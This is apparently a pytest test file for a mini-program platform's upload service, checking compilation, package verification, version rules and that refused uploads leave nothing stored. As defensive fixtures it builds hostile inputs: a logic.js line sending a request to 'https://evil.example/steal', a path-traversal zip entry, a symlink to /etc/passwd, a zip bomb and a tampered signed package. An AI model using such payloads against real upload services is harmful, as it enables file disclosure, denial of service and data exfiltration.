"""Uploads: sources are compiled by the center, packages are verified, and anything
refused leaves no version row, no audit event and no stored file."""

from __future__ import annotations

import io
import stat
import zipfile

import pytest
from center_helpers import Center, count_rows, make_package, make_zip, source_zip, stored_blobs

from miniport.package import read_package


@pytest.fixture
def app(center: Center) -> tuple[Center, object, str]:
    dev = center.partner("acme")
    r = dev.post("/apps", json={"name": "Pay", "allowed_domains": ["https://api.acme.example"]})
    return center, dev, r.json()["appid"]


def assert_nothing_stored(center: Center) -> None:
    assert count_rows(center.ctx, "versions") == 0
    assert stored_blobs(center.ctx) == []
    events = center.admin.get("/audit", params={"action": "version.upload"}).json()
    assert events == []


def test_source_upload_is_compiled_and_stored(app) -> None:  # type: ignore[no-untyped-def]
    center, dev, appid = app
    r = dev.upload(appid, "1.0.0", source_zip(), notes="first")
    assert r.status_code == 201, r.text
    v = r.json()
    assert v["upload_kind"] == "source" and v["state"] == "uploaded"

    pkg = read_package(dev.get(f"/apps/{appid}/versions/1.0.0/package").content)
    assert pkg.manifest.appid == appid and pkg.manifest.version == "1.0.0"
    assert pkg.id == v["package_id"]
    source = dev.get(f"/apps/{appid}/versions/1.0.0/source").content
    assert source == source_zip()

    kinds = {
        (f["kind"], f["details"].get("api") or f["details"].get("domain")) for f in v["findings"]
    }
    assert ("sensitive_api", "getLocation") in kinds
    assert not any(k == "domain_not_allowed" for k, _ in kinds)  # api.acme.example is allowed
    package_blob, source_blob = sorted(stored_blobs(center.ctx))
    assert package_blob.startswith(f"packages/{appid}/1.0.0/{v['package_id'][:16]}-")
    assert source_blob.startswith(f"sources/{appid}/1.0.0/{v['source_sha256'][:16]}-")


def test_built_package_upload(app) -> None:  # type: ignore[no-untyped-def]
    center, dev, appid = app
    logic = "fetch('x'); wx.request({url: 'https://evil.example/steal'});"
    r = dev.upload(appid, "1.0.0", make_package(appid, "1.0.0", logic=logic))
    assert r.status_code == 201, r.text
    assert r.json()["upload_kind"] == "mpk"
    finding = next(f for f in r.json()["findings"] if f["kind"] == "domain_not_allowed")
    assert finding["severity"] == "error"
    assert finding["details"] == {"domain": "https://evil.example", "files": ["logic.js"]}


def test_compile_errors_are_returned_with_positions_and_nothing_is_stored(app) -> None:  # type: ignore[no-untyped-def]
    center, dev, appid = app
    bad = source_zip({"app.json": '{\n  "pages": ["pages/index/index"],\n}\n'})
    r = dev.upload(appid, "1.0.0", bad)
    assert r.status_code == 422
    err = r.json()["error"]
    assert err["code"] == "compile_failed"
    first = err["details"]["diagnostics"][0]
    assert first["file"] == "app.json" and first["line"] == 3
    assert first["location"] == f"app.json:3:{first['col']}"
    assert "app.json:3:" in err["message"]
    assert_nothing_stored(center)


def _zip_with_symlink() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("app.js")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    return buf.getvalue()


def _zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("app.js", b"\0" * (20 * 1024 * 1024))
    return buf.getvalue()


@pytest.mark.parametrize(
    ("make", "code", "field"),
    [
        (
            lambda appid: make_zip({"../evil.js": "x", "app.json": "{}"}),
            "package.path_traversal",
            "file",
        ),
        (lambda appid: make_zip({"/abs.js": "x"}), "package.absolute_path", "file"),
        (lambda appid: _zip_with_symlink(), "package.symlink", "file"),
        (lambda appid: _zip_bomb(), "package.zip_bomb", "file"),
        (lambda appid: b"not a zip at all", "package.not_a_zip", "file"),
        (lambda appid: make_package("mpffffffffffffffff", "1.0.0"), "manifest_mismatch", "file"),
        (lambda appid: make_package(appid, "9.9.9"), "manifest_mismatch", "version"),
        (lambda appid: b"", "empty_upload", "file"),
    ],
    ids=[
        "traversal",
        "absolute",
        "symlink",
        "bomb",
        "not-zip",
        "other-appid",
        "other-version",
        "empty",
    ],
)
def test_refused_uploads_leave_nothing(app, make, code, field) -> None:  # type: ignore[no-untyped-def]
    center, dev, appid = app
    r = dev.upload(appid, "1.0.0", make(appid))
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == code
    assert r.json()["error"]["details"]["field"] == field
    assert_nothing_stored(center)


def test_tampered_package_is_refused(app) -> None:  # type: ignore[no-untyped-def]
    center, dev, appid = app
    src = zipfile.ZipFile(io.BytesIO(make_package(appid, "1.0.0")))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:  # same manifest, one file swapped after signing
        for info in src.infolist():
            data = src.read(info)
            out.writestr(info, b"Page({evil: 1})" if info.filename == "logic.js" else data)
    tampered = buf.getvalue()
    r = dev.upload(appid, "1.0.0", tampered)
    assert r.status_code == 422
    assert r.json()["error"]["code"] in ("package.hash_mismatch", "package.size_mismatch")
    assert_nothing_stored(center)


def test_version_numbers_are_semver_and_never_reused(app) -> None:  # type: ignore[no-untyped-def]
    center, dev, appid = app
    r = dev.upload(appid, "1.0", make_package(appid, "1.0"))
    assert r.status_code == 422
    assert r.json()["error"]["details"]["field"] == "version"
    assert dev.upload(appid, "1.0.0", make_package(appid, "1.0.0")).status_code == 201
    before = stored_blobs(center.ctx)
    r = dev.upload(appid, "1.0.0", make_package(appid, "1.0.0", logic="Page({changed: 1})"))
    assert r.status_code == 409
    assert r.json()["error"]["code"] == "version_exists"
    assert stored_blobs(center.ctx) == before
    # withdrawn or rejected, the number stays taken
    dev.post(f"/apps/{appid}/versions/1.0.0/submit", json={})
    center.admin.post(f"/apps/{appid}/versions/1.0.0/reject", json={"reason": "no"})
    assert dev.upload(appid, "1.0.0", make_package(appid, "1.0.0")).status_code == 409


def test_suspended_mini_program_takes_no_uploads(app) -> None:  # type: ignore[no-untyped-def]
    center, dev, appid = app
    assert center.admin.post(f"/apps/{appid}/suspend", json={"reason": "fraud"}).status_code == 200
    r = dev.upload(appid, "1.0.0", make_package(appid, "1.0.0"))
    assert r.status_code == 403 and r.json()["error"]["code"] == "mini_program_suspended"
    assert_nothing_stored(center)


def test_oversized_upload_is_refused_before_reading_it_all(app, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from miniport.center.api import versions as versions_api

    center, dev, appid = app
    monkeypatch.setattr(versions_api, "MAX_UPLOAD_BYTES", 64 * 1024)
    r = dev.upload(appid, "1.0.0", b"x" * (3 * 1024 * 1024))
    assert r.status_code == 413
    assert r.json()["error"]["code"] == "upload_too_large"
    assert r.json()["error"]["details"]["field"] == "file"
    assert_nothing_stored(center)
